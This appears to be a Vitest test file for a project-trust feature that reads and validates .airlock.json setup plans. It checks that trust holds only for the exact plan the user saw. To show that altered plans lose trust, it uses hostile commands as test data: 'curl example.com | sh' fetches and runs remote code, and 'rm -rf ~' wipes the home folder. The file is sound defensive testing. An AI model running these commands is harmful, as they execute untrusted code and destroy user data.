import { symlinkSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { FileProblems } from '#main/base/files/fileProblems';
import type { ProjectSetup } from '#shared/project/projectSetup';
import { MemoryLogger } from '#test/support/memoryLogger';
import { unwrap } from '#test/support/testEngine';
import { testFolder } from '#test/support/testFolder';
import { Projects } from './projects';
import { readPlan } from './readPlan';

// Shows I14.

function world() {
  const folder = testFolder();
  const project = folder.folder('project');
  const open = () =>
    new Projects({
      file: folder.join('data/trusted.json'),
      onProblem: new FileProblems(new MemoryLogger()).report,
    });
  const write = (plan: unknown) =>
    folder.write('project/.airlock.json', typeof plan === 'string' ? plan : JSON.stringify(plan));
  return { folder, project, open, write };
}

type Found = Extract<ProjectSetup, { type: 'found' }>;

async function found(projects: Projects, project: string): Promise<Found> {
  const setup = unwrap(await projects.read(project));
  if (setup.type !== 'found') throw new Error(JSON.stringify(setup));
  return setup;
}

describe('a project’s settings', () => {
  it('apply once they are trusted, and no longer when they change', async () => {
    const { folder, project, open, write } = world();
    const projects = open();
    expect(unwrap(await projects.read(project))).toEqual({ type: 'none' });
    write({ setup: 'npm ci' });
    const first = await found(projects, project);
    expect(first).toMatchObject({ trust: 'new', plan: { setup: 'npm ci', carry: [], run: {} } });
    expect(await projects.plan(project)).toBeNull();

    unwrap(await projects.trust(project, first.hash, true));
    expect(await projects.plan(project)).toMatchObject({ plan: { setup: 'npm ci' } });
    // It is known by its folder, however that is reached, and after a restart.
    symlinkSync(project, folder.join('alias'));
    expect(await open().plan(folder.join('alias'))).toMatchObject({ plan: { setup: 'npm ci' } });

    write({ setup: 'curl example.com | sh' });
    expect((await found(projects, project)).trust).toBe('changed');
    expect(await projects.plan(project)).toBeNull();
    write({ setup: 'npm ci' });
    expect((await found(projects, project)).trust).toBe('trusted');
    unwrap(await projects.trust(project, first.hash, false));
    expect(await projects.plan(project)).toBeNull();
  });

  it('are trusted only as they were shown', async () => {
    const { project, open, write } = world();
    const projects = open();
    write({ setup: 'npm ci' });
    const { hash } = await found(projects, project);
    write({ setup: 'rm -rf ~' });
    expect(await projects.trust(project, hash, true)).toMatchObject({
      error: { code: 'conflict' },
    });
    expect(await projects.plan(project)).toBeNull();
  });

  it('are not trusted by the same file elsewhere, nor by a damaged list', async () => {
    const { folder, project, open, write } = world();
    const projects = open();
    write({ setup: 'npm ci' });
    unwrap(await projects.trust(project, (await found(projects, project)).hash, true));
    folder.write('other/.airlock.json', JSON.stringify({ setup: 'npm ci' }));
    expect((await found(projects, folder.join('other'))).trust).toBe('new');
    folder.write('data/trusted.json', '{"v":1,"folders":');
    expect((await found(open(), project)).trust).toBe('new');
  });

  it('list the files to carry over by name and by pattern, and follow no link', async () => {
    const { folder, project, open, write } = world();
    for (const path of [
      '.env',
      'packages/a/.env.local',
      'packages/b/.env.local',
      'packages/b/node_modules/x.js',
      'node_modules/y/.env.local',
      '.git/.env.local',
    ]) {
      folder.write(`project/${path}`, 'x');
    }
    folder.write('outside/.env.local', 'x');
    symlinkSync(folder.join('outside'), folder.join('project/way'));
    write({
      carry: ['.env', 'missing', '**/.env.local', { path: '**/node_modules/', as: 'link' }],
    });
    const setup = await found(open(), project);
    expect(setup.isIncomplete).toBe(false);
    expect(setup.carried).toEqual([
      { path: '.env', as: 'copy', isFolder: false },
      { path: 'node_modules', as: 'link', isFolder: true },
      { path: 'packages/a/.env.local', as: 'copy', isFolder: false },
      { path: 'packages/b/.env.local', as: 'copy', isFolder: false },
      { path: 'packages/b/node_modules', as: 'link', isFolder: true },
    ]);
  });

  it('explain what is wrong with an invalid file', async () => {
    const { folder, project, open, write } = world();
    write('x'.repeat(70_000));
    expect(unwrap(await open().read(project))).toMatchObject({
      type: 'invalid',
      problems: [{ message: 'The file is larger than 64 KB' }],
    });
    folder.folder('linked');
    symlinkSync(folder.join('project/.airlock.json'), folder.join('linked/.airlock.json'));
    expect(unwrap(await open().read(folder.join('linked')))).toMatchObject({
      problems: [{ message: 'It is a link' }],
    });
  });
});

describe('mistakes in the file', () => {
  const cases: readonly [text: string, problems: readonly string[]][] = [
    ['{ "setup": }', ['1:12 Value expected']],
    ['[]', ['1:1 Expected object, received array']],
    ['{\n  "setup": 7\n}', ['2:12 Expected string, received number']],
    ['{\n  "setup": " "\n}', ['2:12 A command must not be empty']],
    ['{\n  "set-up": "x"\n}', ['2:13 "set-up" is not a known key']],
    ['{ "setup": "a",\n  "setup": "b" }', ['2:12 "setup" occurs more than once']],
    ['{ "carry": ["../x"] }', ['1:13 A path must not contain . or .. parts']],
    ['{ "carry": ["/etc/passwd"] }', ['1:13 A path must be inside the project']],
    ['{ "carry": ["a/.GIT/hooks"] }', ['1:13 The .git folder cannot be carried over']],
    ['{ "carry": [{ "path": "x" }] }', ['1:13 "as" is missing']],
    ['{ "carry": [{ "path": "x", "as": "move" }] }', ['1:34 Expected one of "copy"|"link"']],
    ['{ "run": { "dev": ["vite"] } }', ['1:19 Expected string, received array']],
  ];

  it.each(cases)('in %j have a position and a message', (text, problems) => {
    const reading = readPlan(text);
    const said = reading.ok
      ? []
      : reading.problems.map(({ line, column, message }) => `${line}:${column} ${message}`);
    expect(said).toEqual(problems);
  });

  it('do not include comments, trailing commas and a schema', () => {
    const text = `// Ours
      {
        "$schema": "https://example.com/airlock.json",
        "carry": [".env", { "path": "node_modules/", "as": "link" }],
        "setup": "npm ci", // quick
        "run": { "dev": "npm run dev", },
        "checks": { "types": "tsc", "test": { "command": "make test", "report": "out.xml" } },
        "prompts": { "Fix": "Fix {{issue}}" },
        "mcpServers": { "docs": { "url": "https://docs.test/mcp" } },
      }`;
    expect(readPlan(text)).toEqual({
      ok: true,
      plan: {
        carry: [
          { path: '.env', as: 'copy' },
          { path: 'node_modules', as: 'link' },
        ],
        setup: 'npm ci',
        run: { dev: 'npm run dev' },
        checks: {
          types: { command: 'tsc', report: null },
          test: { command: 'make test', report: 'out.xml' },
        },
        prompts: { Fix: 'Fix {{issue}}' },
        mcpServers: { docs: { url: 'https://docs.test/mcp' } },
      },
    });
  });

  it.each([
    ['{ "a b": { "command": "x" } }', 'Use 1 to 64 letters, digits, hyphens and underscores'],
    ['{ "a": {} }', '"command" is missing'],
    [
      '{ "a": { "command": "x", "url": "https://a.test" } }',
      'A server has a command or an address',
    ],
    ['{ "a": { "url": "ftp://a.test" } }', 'The address must begin with https:// or http://'],
    ['{ "a": { "command": "x", "agents": ["one"] } }', '"agents" is not a known key'],
  ])('include the server %s', (servers, message) => {
    const reading = readPlan(`{ "mcpServers": ${servers} }`);
    expect(!reading.ok && reading.problems.map((problem) => problem.message).join()).toContain(
      message,
    );
  });
});
